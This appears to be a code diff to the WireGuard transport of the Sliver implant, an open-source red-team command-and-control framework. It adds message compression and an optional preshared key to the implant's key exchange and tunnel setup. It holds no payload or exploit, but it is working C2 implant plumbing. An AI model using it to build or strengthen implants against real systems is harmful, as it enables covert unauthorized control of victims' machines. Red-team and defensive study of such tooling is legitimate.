@@ -41,6 +41,7 @@ import (
 
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	"github.com/bishopfox/sliver/implant/sliver/netstack"
 	"golang.zx2c4.com/wireguard/conn"
 	"golang.zx2c4.com/wireguard/device"
@@ -55,12 +56,14 @@ var (
 
 	wgImplantPrivKey  = `{{.Config.WGImplantPrivKey}}`
 	wgServerPubKey    = `{{.Config.WGServerPubKey}}`
+	wgPresharedKey    = `{{.Config.WGPresharedKey}}`
 	wgPeerTunIP       = `{{.Config.WGPeerTunIP}}`
 	wgKeyExchangePort = getWgKeyExchangePort()
 	wgTcpCommsPort    = getWgTcpCommsPort()
 
-	wgSessPrivKey string
-	wgSessPubKey  string
+	wgSessPrivKey      string
+	wgSessPubKey       string
+	wgSessPresharedKey string
 
 	PingInterval = 2 * time.Minute
 	failedConn   = 0
@@ -80,7 +83,7 @@ func GetTUNAddress() string {
 // which is a fancy way of saying we write the length of the message then the message
 // e.g. [uint32 length|message] so the receiver can delimit messages properly
 func WriteEnvelope(connection net.Conn, envelope *pb.Envelope) error {
-	data, err := proto.Marshal(envelope)
+	data, err := proto.Marshal(compression.Compress(envelope))
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Print("Envelope marshaling error: ", err)
@@ -161,13 +164,20 @@ func ReadEnvelope(connection net.Conn) (*pb.Envelope, error) {
 		// {{end}}
 		return nil, err
 	}
+	err = compression.Decompress(envelope)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Decompress envelope error: %v", err)
+		// {{end}}
+		return nil, err
+	}
 
 	return envelope, nil
 }
 
 // getSessKeys - Connect to the wireguard server and retrieve session specific keys and IP
 func getSessKeys(address string, port uint16) error {
-	_, dev, tNet, err := bringUpWGInterface(address, port, wgImplantPrivKey, wgServerPubKey, wgPeerTunIP)
+	_, dev, tNet, err := bringUpWGInterface(address, port, wgImplantPrivKey, wgServerPubKey, wgPresharedKey, wgPeerTunIP)
 	if err != nil {
 		return err
 	}
@@ -186,7 +196,7 @@ func getSessKeys(address string, port uint16) error {
 		return err
 	}
 
-	wgSessPrivKey, wgSessPubKey, tunAddress = doKeyExchange(keyExchangeConnection)
+	wgSessPrivKey, wgSessPubKey, tunAddress, wgSessPresharedKey = doKeyExchange(keyExchangeConnection)
 
 	// {{if .Config.Debug}}
 	log.Printf("Signaling wg device to go down")
@@ -211,7 +221,7 @@ func WGConnect(address string, port uint16) (net.Conn, *device.Device, error) {
 	}
 
 	// Bring up actual wireguard connection using retrieved keys and IP
-	_, dev, tNet, err := bringUpWGInterface(address, port, wgSessPrivKey, wgSessPubKey, tunAddress)
+	_, dev, tNet, err := bringUpWGInterface(address, port, wgSessPrivKey, wgSessPubKey, wgSessPresharedKey, tunAddress)
 	if err != nil {
 		failedConn++
 		return nil, nil, err
@@ -235,8 +245,9 @@ func WGConnect(address string, port uint16) (net.Conn, *device.Device, error) {
 }
 
 // bringUpWGInterface - First creates an inet.af network stack.
-// then creates a Wireguard device/interface and applies configuration
-func bringUpWGInterface(address string, port uint16, implantPrivKey string, serverPubKey string, netstackTunIP string) (tun.Device, *device.Device, *netstack.Net, error) {
+// then creates a Wireguard device/interface and applies configuration,
+// the preshared key is optional
+func bringUpWGInterface(address string, port uint16, implantPrivKey string, serverPubKey string, presharedKey string, netstackTunIP string) (tun.Device, *device.Device, *netstack.Net, error) {
 	if netstackTunIP == "" {
 		err := errors.New("[wireguard] Cannot connect to empty IP address")
 		return nil, nil, nil, err
@@ -261,6 +272,9 @@ func bringUpWGInterface(address string, port uint16, implantPrivKey string, serv
 	wgConf := bytes.NewBuffer(nil)
 	fmt.Fprintf(wgConf, "private_key=%s\n", implantPrivKey)
 	fmt.Fprintf(wgConf, "public_key=%s\n", serverPubKey)
+	if presharedKey != "" {
+		fmt.Fprintf(wgConf, "preshared_key=%s\n", presharedKey)
+	}
 	fmt.Fprintf(wgConf, "endpoint=%s:%d\n", address, port)
 	fmt.Fprintf(wgConf, "allowed_ip=%s/0\n", "0.0.0.0")
 
@@ -281,8 +295,9 @@ func bringUpWGInterface(address string, port uint16, implantPrivKey string, serv
 	return tun, dev, tNet, nil
 }
 
-// doKeyExchange - Connect to key exchange listener and retrieve new dynamic wg keys
-func doKeyExchange(conn net.Conn) (string, string, string) {
+// doKeyExchange - Connect to key exchange listener and retrieve new dynamic wg keys,
+// implants with a preshared key also get a new preshared key for the session
+func doKeyExchange(conn net.Conn) (string, string, string, string) {
 	// {{if .Config.Debug}}
 	log.Printf("Connected to key exchange listener")
 	// {{end}}
@@ -303,7 +318,20 @@ func doKeyExchange(conn net.Conn) (string, string, string) {
 	// {{if .Config.Debug}}
 	log.Printf("Retrieved new keys, priv:%s, pub:%s, ip:%s", stringSlice[0], stringSlice[1], net.IP(stringSlice[2]).String())
 	// {{end}}
-	return stringSlice[0], stringSlice[1], net.IP(stringSlice[2]).String()
+
+	// 65 = 1 byte delimiter + 64 byte key
+	presharedKey := ""
+	if wgPresharedKey != "" {
+		pskBuff := make([]byte, 65)
+		_, err = io.ReadFull(buffReader, pskBuff)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("Failed to read wg preshared key from key exchange listener: %s", err)
+			// {{end}}
+		}
+		presharedKey = string(pskBuff[1:])
+	}
+	return stringSlice[0], stringSlice[1], net.IP(stringSlice[2]).String(), presharedKey
 }
 
 func getWgKeyExchangePort() int {